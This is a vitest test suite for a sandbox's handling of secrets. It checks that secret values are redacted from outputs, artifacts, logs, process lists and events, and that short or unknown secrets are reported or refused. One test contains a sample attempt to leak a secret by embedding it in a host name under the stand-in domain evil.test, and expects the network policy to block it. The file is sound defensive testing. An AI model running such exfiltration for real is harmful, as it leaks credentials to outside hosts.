import { once } from "node:events";
import { mkdtemp, readdir, readFile, rm, writeFile } from "node:fs/promises";
import http from "node:http";
import { tmpdir } from "node:os";
import { join } from "node:path";
import { PassThrough } from "node:stream";
import { text } from "node:stream/consumers";
import { afterAll, beforeAll, describe, expect, it, vi } from "vitest";
import type { Alert, ExecuteRequest, ExecuteResponse, OperationEvent } from "../helpers/wire-glovebox.ts";
import { getProgram, openNetworkScene } from "../helpers/network-scene.ts";
import { engines, useGlovebox } from "../helpers/open-glovebox.ts";
import { openPreloadGlovebox } from "../helpers/preload-glovebox.ts";
import { processesWith } from "../helpers/processes.ts";
import { runCommand } from "../helpers/run-command.ts";

/** Different in each run of the tests, so that leftovers of another run are not mistaken for a leak in this one. */
const value = `sk-Test'9+AbC/ß x!-${Math.random().toString(36).slice(2, 12)}`;
const plainValue = `hunter2${Math.random().toString(36).slice(2, 12)}`;
const scene = await openNetworkScene();
let folder = "";
const settings = {
  ...scene.settings,
  max_output_bytes: 1024,
  secrets: { KEY: { file: "" }, PLAIN: { file: "" }, PIN: { file: "" }, AGENT: { env: "PATH", kinds: ["agent"] } },
};
beforeAll(async () => {
  folder = await mkdtemp(join(tmpdir(), "glovebox-secrets-"));
  for (const [name, content] of Object.entries({ KEY: value, PLAIN: plainValue, PIN: "1234" })) {
    await writeFile(join(folder, name), `${content}\n`);
    Object.assign(settings.secrets, { [name]: { file: join(folder, name) } });
  }
});
afterAll(async () => {
  scene[Symbol.dispose]();
  await rm(folder, { recursive: true, force: true });
});

/** What a Docker-compatible engine reports about a sandbox and its processes; only its id if there is no such API. */
async function inspections(engine: string, sandboxId: string): Promise<string> {
  if (engine === "local") return sandboxId;
  const socketPath =
    engine === "docker"
      ? "/var/run/docker.sock"
      : (process.env["GLOVEBOX_TEST_PODMAN_SOCKET"] ?? "/run/podman/podman.sock");
  const get = async (path: string): Promise<string> => {
    const [response] = await once(http.get({ socketPath, path }), "response");
    return text(response as http.IncomingMessage);
  };
  const container = await get(`/v1.40/containers/glovebox-${sandboxId}/json`);
  const { ExecIDs: execs } = JSON.parse(container) as { readonly ExecIDs: readonly string[] | null };
  return [container, ...(await Promise.all((execs ?? []).map((id) => get(`/v1.40/exec/${id}/json`))))].join("\n");
}

const spelled = [value, plainValue].flatMap((secret) => [
  secret,
  JSON.stringify(secret).slice(1, -1),
  Buffer.from(secret).toString("base64").replace(/.?=*$/, ""),
]);
function expectNoValue(shown: string): void {
  for (const secret of spelled) expect(shown).not.toContain(secret);
}

const inspectEveryWay = `
import base64, json, os, subprocess, sys, time, urllib.parse
value = os.environ["KEY"]
print(len(value), value)
print(base64.b64encode(value.encode()).decode(), base64.b64encode(b"u:" + value.encode()).decode())
print(json.dumps(value), urllib.parse.quote(value), value.encode().hex())
print(subprocess.run(["sh", "-c", 'printf %s "$KEY"'], capture_output=True, text=True).stdout)
for byte in value.encode():
    os.write(1, bytes([byte]))
print(flush=True)
print("on stderr:", value, file=sys.stderr)
`;

describe.each(engines)("secrets on %s", (engine) => {
  const alerts: Alert[] = [];
  const glovebox = useGlovebox(engine, { settings, onAlert: (alert) => alerts.push(alert) });
  const run = (request: Partial<ExecuteRequest> & { readonly code: string }): Promise<ExecuteResponse> =>
    glovebox().execute({ language: "python", ...request });

  it("reach the program, and are taken out of what it writes in the usual spellings", async () => {
    const response = await run({ code: inspectEveryWay, secrets: ["KEY"] });
    const it = "[redacted:KEY]";
    const lines = response.stdout.split("\n");
    expect(response).toMatchObject({ outcome: "completed", stderr: `on stderr: ${it}\n` });
    expect(lines[0]).toBe(`${value.length} ${it}`);
    expect(lines[1]).toMatch(/^\[redacted:KEY\] dT.\[redacted:KEY\].{0,2}=*$/);
    expect(lines[2]).toBe(`"${it}" ${it} ${it}`);
    expect(lines.slice(3)).toEqual([it, it, ""]);
    expect(response.warnings).toContain(
      "The value of secret KEY was replaced by [redacted:KEY] in what the program wrote.",
    );
    expectNoValue(JSON.stringify(response));
  });

  it.each(["javascript", "typescript"] as const)("reach %s, under a name of the request's choice", async (language) => {
    const code = "console.log(process.env.TOKEN!.length); throw new Error(process.env.TOKEN)";
    const response = await run({
      language,
      code: language === "typescript" ? code : code.replace("!", ""),
      secrets: { TOKEN: "PLAIN" },
    });
    expect(response).toMatchObject({ outcome: "failed", stdout: `${plainValue.length}\n` });
    expect(response.stderr).toMatch(/rror: \[redacted:PLAIN\]/);
    expectNoValue(JSON.stringify(response));
  });

  it("are taken out of results, their names, and the error", async () => {
    const response = await run({
      code: `
import os
open("note.txt", "w").write("a " + os.environ["PLAIN"])
open("data.bin", "wb").write(b"\\x00\\xff" + os.environ["PLAIN"].encode())
open(os.environ["PLAIN"] + ".txt", "w").write("named")
raise PermissionError(os.environ["PLAIN"])`,
      secrets: ["PLAIN"],
      artifacts: ["*"],
    });
    expect(response).toMatchObject({ error: { error_type: "PERMISSION_DENIED" } });
    expect(response.error?.message).toContain("PermissionError: [redacted:PLAIN]");
    expect(response.artifacts?.map(({ path, content }) => [path, content])).toEqual(
      expect.arrayContaining([
        ["note.txt", "a [redacted:PLAIN]"],
        ["data.bin", Buffer.concat([Buffer.from([0, 255]), Buffer.from("[redacted:PLAIN]")]).toString("base64")],
        ["[redacted:PLAIN].txt", "named"],
      ]),
    );
    expectNoValue(JSON.stringify(response));
  });

  it("are in no output that the cap cuts in the middle of one, nor where the end of time does", async () => {
    const capped = await run({
      code: `import os; print("x" * 1000 + os.environ["PLAIN"] + os.environ["PLAIN"])`,
      secrets: ["PLAIN"],
    });
    expect(capped).toMatchObject({ truncated: true, stdout: `${"x".repeat(1000)}[redacted:PLAIN][redacte` });
    const response = await run({
      code: `import os, sys, time\nsys.stdout.write("x" + os.environ["PLAIN"])\nsys.stdout.flush()\ntime.sleep(60)`,
      secrets: ["PLAIN"],
      timeout_seconds: 2,
    });
    expect(response).toMatchObject({ outcome: "timed_out", stdout: "x[redacted:PLAIN]" });
  });

  it("show in no process list, no inspection of the engine and no event while the program runs", async () => {
    const events: OperationEvent[] = [];
    const ready = Promise.withResolvers<string>();
    const stdin = new PassThrough();
    let sandboxId = "";
    const running = glovebox().execute(
      {
        language: "python",
        code: `${inspectEveryWay}\nprint("ready", flush=True)\nsys.stdin.read()`,
        secrets: ["KEY"],
        environment: { PLAIN_VARIABLE: "is not secret" },
      },
      {
        stdin,
        onEvent: (event) => {
          events.push(event);
          if (event.type === "sandbox") ({ sandboxId } = event);
          if (event.type === "output" && Buffer.from(event.bytes).includes("ready")) ready.resolve(sandboxId);
        },
      },
    );
    running.catch(ready.reject);
    const inspected = await inspections(engine, await ready.promise);
    const withValue = processesWith((argv) => spelled.some((secret) => argv.join("\0").includes(secret)));
    stdin.end();
    await running;
    expect(withValue).toEqual([]);
    expect(inspected).toContain(sandboxId);
    expectNoValue(inspected);
    const written = events.flatMap((event) => (event.type === "output" ? [Buffer.from(event.bytes)] : []));
    expectNoValue(Buffer.concat(written).toString() + JSON.stringify(events));
  });

  it("show in no log line at any level and in no file of ours", async () => {
    const state = await mkdtemp(join(folder, "state-"));
    const seen: string[] = [];
    const readState = async (): Promise<void> => {
      for (const name of await readdir(state, { recursive: true })) {
        seen.push(name, await readFile(join(state, name), "utf8").catch(() => ""));
      }
    };
    const pending: Promise<void>[] = [];
    const result = await runCommand(
      [
        "run",
        "--engine",
        engine,
        "--secret",
        "TOKEN=KEY",
        "--env",
        `OTHER=${plainValue}`,
        "-c",
        // It lives until its records have been read.
        `${inspectEveryWay}\nimport time; time.sleep(1)\nraise ValueError(value)`,
      ],
      {
        environment: {
          XDG_STATE_HOME: state,
          GLOVEBOX_LOG_LEVEL: "trace",
          GLOVEBOX_SECRETS: "TOKEN",
          TOKEN: value,
        },
        onOutput: () => pending.push(readState()),
      },
    );
    await Promise.all(pending);
    expect(result).toMatchObject({ exitCode: 1, stdout: expect.stringContaining("[redacted:TOKEN]") });
    expect(result.stderr).toMatch(/^glovebox: run ended \(.*outcome failed/m);
    expect(seen.join("\n")).toContain("sbx-");
    expectNoValue(result.stdout + result.stderr + seen.join("\n"));
  });

  it("are taken out of the names that a refused connection asked for, in events, results and alerts", async () => {
    alerts.length = 0;
    const events: OperationEvent[] = [];
    const response = await glovebox().execute(
      {
        language: "python",
        code: `import os, sys\nsys.argv.append("http://" + os.environ["PLAIN"] + ".evil.test/")\n${getProgram}`,
        secrets: ["PLAIN"],
        network: [scene.webAt],
        timeout_seconds: 30,
      },
      { onEvent: (event) => void events.push(event) },
    );
    expect(response).toMatchObject({
      outcome: "policy_denied",
      error: {
        error_type: "NETWORK_ERROR",
        context: { denials: [{ target: "[redacted:PLAIN].evil.test:80", rule: "not_allowed" }] },
      },
    });
    expect(alerts).toMatchObject([
      { container_id: response.sandbox_id, kind: "network", state: "start", value: 1, threshold: 0 },
      { container_id: response.sandbox_id, kind: "network", state: "end", value: 1 },
    ]);
    expect(events.map(({ type }) => type)).toContain("denied");
    expectNoValue(JSON.stringify([response, events, alerts]));
  });

  it("that are too short to search for are reported", async () => {
    const response = await run({ code: "import os; print(os.environ['PIN'])", secrets: ["PIN"] });
    expect(response).toMatchObject({
      stdout: "1234\n",
      warnings: expect.arrayContaining([
        "Secret PIN has fewer than 6 bytes: it is not taken out of what the program writes.",
      ]),
    });
  });

  it.each(["NOBODY", "AGENT"])("are refused by the name %s, with the names that may be used", async (name) => {
    await expect(run({ code: "pass", secrets: [name] })).rejects.toMatchObject({
      errorType: "INVALID_REQUEST",
      context: { valid: ["KEY", "PLAIN", "PIN"] },
    });
  });
});

describe("secrets at level preload", () => {
  it.each([
    ["python", 'import os\nprint(len(os.environ["TOKEN"]), os.environ["TOKEN"])'],
    ["javascript", "console.log(process.env.TOKEN.length, process.env.TOKEN)"],
  ] as const)("reach %s and are taken out of what it writes", async (language, code) => {
    vi.stubEnv("GLOVEBOX_SECRETS", "TOKEN");
    vi.stubEnv("TOKEN", value);
    try {
      await using glovebox = await openPreloadGlovebox();
      const response = await glovebox.execute({ language, code, secrets: ["TOKEN"] });
      expect(response).toMatchObject({ stdout: `${value.length} [redacted:TOKEN]\n`, isolation: "preload" });
    } finally {
      vi.unstubAllEnvs();
    }
  });
});
